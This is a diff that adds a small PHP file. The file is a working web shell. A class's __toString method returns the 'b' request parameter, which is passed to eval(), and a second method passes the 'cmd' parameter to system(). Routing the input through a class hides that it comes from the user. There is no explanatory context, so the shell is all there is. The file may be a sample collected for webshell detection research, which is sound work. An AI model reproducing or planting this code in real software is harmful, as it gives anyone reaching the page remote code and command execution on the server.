@@ -0,0 +1,24 @@
+<?php
+class base3{
+
+    function __toString(){
+        $b = $_GET['b'];
+        return $b;
+    }
+
+    function get_cmd(){
+        $cmd = $_GET['cmd'];
+        return $cmd;
+    }
+}
+
+class child3 extends base3{
+    public $name = "child3";
+}
+
+
+$c = new child3();
+eval($c);
+
+$d = $c->get_cmd();
+system($d);